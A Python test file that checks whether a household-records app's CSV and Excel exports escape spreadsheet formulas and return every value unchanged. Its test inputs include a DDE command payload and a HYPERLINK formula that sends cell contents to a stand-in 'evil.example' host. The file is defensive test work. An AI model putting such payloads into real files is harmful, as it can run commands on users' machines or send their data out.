"""S6: no text that we hand out in a table is a formula of a spreadsheet, and all of it comes back as it was."""

import csv
import io
from decimal import Decimal

import pandas as pd
import pytest

from h4a_core.records.cells.formulas import with_formula, without_formula
from h4a_ui.components import as_csv
from h4a_ui.language import Language
from tests.records.made import households, load, stored
from tests.records.test_correction_workbook import LATE, downloaded, mend, uploaded

FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-1+cmd",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "'=1+1",
    "''=1+1",
    "＝1+1",  # noqa: RUF001 - the wide sign
    '=HYPERLINK("https://evil.example?"&A1,"click")',
]
HARMLESS = ["A-1", "", "'90", "'", "-58,00", "+7", "-1.234,56", "'-58", "3 = 3", "a@b", "−5 EUR"]


def _read(data: bytes, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))


@pytest.mark.parametrize(("lang", "separator"), [("it", ";"), ("en", ",")])
def test_s6_no_cell_and_no_heading_of_a_csv_is_a_formula_and_all_come_back(lang, separator):
    table = pd.DataFrame({"=heading": [*FORMULAS, *HARMLESS]})
    (heading,), *cells = _read(as_csv(Language(lang), table), separator)
    assert heading == "'=heading"
    written = [cell for (cell,) in cells]
    assert written == [*(f"'{text}" for text in FORMULAS), *HARMLESS]
    assert [with_formula(cell) for cell in written] == [*FORMULAS, *HARMLESS]


def test_s6_numbers_of_a_csv_stay_numbers_also_below_zero():
    table = pd.DataFrame({"float": [-1.5, 2.0], "int": [-3, 4], "money": [Decimal("-5.25"), None]})
    assert _read(as_csv(Language("it"), table), ";")[1:] == [["-1,5", "-3", "-5.25"], ["2,0", "4", ""]]
    assert _read(as_csv(Language("en"), table), ",")[1:] == [["-1.5", "-3", "-5.25"], ["2.0", "4", ""]]


def test_s6_workbooks_and_downloads_hold_the_same_texts_for_harmless():
    assert [without_formula(value) for value in (-58, -1.5, None, "-58,00")] == [-58, -1.5, None, "-58,00"]


@pytest.mark.parametrize("code", ["=A-1", "+A-1", "-A-1", "@A-1", "'=A-1", "''=A-1", "'A-1"])
def test_s6_rows_set_aside_go_out_without_formulas_and_come_back_as_they_were(store, code):
    batch = load(store, "n.csv", households(LATE.replace("A-2", code))).batch_id
    sheet = downloaded(store, batch)
    assert not [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    mend(sheet, "Data ingresso", "30/11/2022")
    assert load(store, "n-da-correggere.xlsx", uploaded(sheet)).rows_accepted == 1
    assert stored(store, "household_id") == [(code,)]
